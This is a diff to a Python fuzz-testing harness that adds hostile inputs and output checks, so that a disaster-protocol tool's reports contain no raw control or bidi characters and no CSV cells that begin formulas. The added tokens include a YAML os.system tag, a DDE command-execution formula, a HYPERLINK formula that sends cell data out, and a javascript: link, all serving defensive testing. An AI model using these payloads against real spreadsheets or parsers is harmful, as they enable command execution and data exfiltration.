@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import random
+import re
 import traceback
 import warnings
 from collections import Counter
@@ -17,12 +20,19 @@ from disaster_protocol.errors import CONTROL_CHARACTERS
 
 ROOT = Path(__file__).resolve().parents[2]
 EXAMPLES = ROOT / "examples" / "profiles"
+_NUMBER = re.compile(r"-[\d.]+([eE][+-]?\d+)?")
 
 TOKENS = [
     ": ", "- ", "{", "}", "[", "]", "'", '"', "&a ", "*a", "<<: *a", "!!python/object:os.system",
     "!!timestamp x", "!!int ''", "!!bool x", "? ", "---\n", "...\n", "\x00", "\x1b[31m", "\r",
     "\t", "\ufeff", "\ud7ff", "9" * 5000, "1e400", "-1", "3.0", "nan", "n/a", "unknown", "yes",
     "2026-02-30", "0001-01-01", "10/03/2026", ",,,,", ";", "\n" * 3, "a" * 200, "é", "\u202e",
+    # issue 27: numbers of any size, formula and link text, bidi and C1, merge keys, depth
+    "0x" + "f" * 3600, "-0x" + "f" * 3600, "0o" + "7" * 5000, "0b" + "1" * 15000,
+    '=HYPERLINK("http://x/?d="&A1,"Click")', "=1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0",
+    "[x](javascript:alert(1))", "![i](http://e.example/t.png)", "\u2066", "\u200f", "\x85",
+    "\x9b31m", "<<: {a: 1}\n", "[" * 70 + "]" * 70, "{\"a\": " * 70 + "1" + "}" * 70,
+    "[" + ", ".join(["1"] * 5000) + "]", ",".join(f"x{i}" for i in range(3000)),
 ]
 
 
@@ -114,11 +124,18 @@ def _exercise(protocol: dp.Protocol, fmt: str, text: str, sidecar: str | None) -
     profile = dp.loads_profile(text, protocol, source="fuzz", format=fmt,  # type: ignore[arg-type]
                                sidecar=sidecar)
     result = dp.assess(protocol, profile, strict=True)
+    outputs = [result.to_json(), result.to_csv()]
     for lang in ("es", "en"):
-        result.to_markdown(lang)
-        result.to_html(lang)
-    result.to_json()
-    result.to_csv()
+        outputs += [result.to_markdown(lang), result.to_html(lang)]
+    for text in outputs:  # issue 27: no raw control or bidi character in any output
+        raw = CONTROL_CHARACTERS.search(text)
+        if raw:
+            raise AssertionError(f"raw {raw.group()!r} in an output")
+    for row in csv.reader(io.StringIO(outputs[1])):  # and no CSV cell starts a formula
+        for value in row:
+            if value.startswith(("=", "+", "@", "\t")) or (
+                    value.startswith("-") and not _NUMBER.fullmatch(value)):
+                raise AssertionError(f"CSV cell {value!r} starts a formula")
 
 
 def run(inputs: int, seed: int, *, protocol: dp.Protocol | None = None) -> Outcome:
